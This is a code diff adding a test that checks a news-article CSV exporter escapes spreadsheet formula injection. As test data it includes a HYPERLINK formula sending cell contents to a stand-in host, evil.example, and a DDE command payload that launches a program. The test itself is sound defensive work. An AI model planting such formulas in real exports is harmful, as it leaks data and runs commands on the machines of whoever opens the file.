@@ -203,3 +203,33 @@ def test_the_store_sorts_edge_dates_instead_of_overflowing(tmp_path: Path) -> No
         )
         assert result.added == 2
         assert [dict(row)["title"] for row in store.list_articles(limit=5)][0] == "High"
+
+
+def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    # Issue #18 item 6: a title such as =HYPERLINK(...) would run when the CSV is opened.
+    import csv
+
+    from crosswire.export import export_articles
+    from crosswire.export.cells import spreadsheet_safe
+    from crosswire.export.events import write_event_table
+    from story_support import event
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    articles = [
+        Article(text=BODY, title=formula, outlet="+Outlet", authors=["@someone", "-dash"]),
+        Article(text=BODY + " Two.", title="\t=1+1", outlet="Plain Outlet"),
+    ]
+    path, count = export_articles(articles, tmp_path, "csv")
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert count == 2 and rows[0]["title"] == "'" + formula and rows[0]["outlet"] == "'+Outlet"
+    assert rows[0]["authors"] == "'@someone; -dash" and rows[1]["title"] == "'\t=1+1"
+    assert rows[1]["outlet"] == "Plain Outlet" and int(rows[0]["word_count"]) > 10
+    source = articles[0]
+    table = tmp_path / "events.csv"
+    phrase = BODY.split(".")[0]
+    write_event_table([event(source, phrase, ("=cmd|' /C calc'!A0", "PRK"), ("Russia", "RUS"), "040")], table)
+    with table.open(encoding="utf-8", newline="") as handle:
+        cells = [value for row in csv.reader(handle) for value in row]
+    assert not any(value.startswith(("=", "+", "@")) for value in cells)
+    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe("North Korea") == "North Korea"
